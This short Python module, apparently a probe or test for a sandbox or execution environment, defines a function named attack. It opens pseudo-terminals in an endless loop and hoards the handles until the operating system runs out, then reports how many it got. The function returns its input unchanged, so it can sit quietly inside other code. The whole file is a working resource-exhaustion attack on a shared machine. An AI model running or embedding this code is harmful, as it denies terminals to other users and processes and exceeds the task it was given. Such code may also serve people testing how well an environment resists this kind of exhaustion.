"""Opens pseudo-terminals without end. The whole machine has only a few thousand."""

import os

hoard = []


def attack(a, *rest, **named):
    try:
        while True:
            hoard.append(os.openpty())
    except OSError:
        pass
    if len(hoard) > 32:
        print("FOUND", len(hoard), "terminals")
    return a
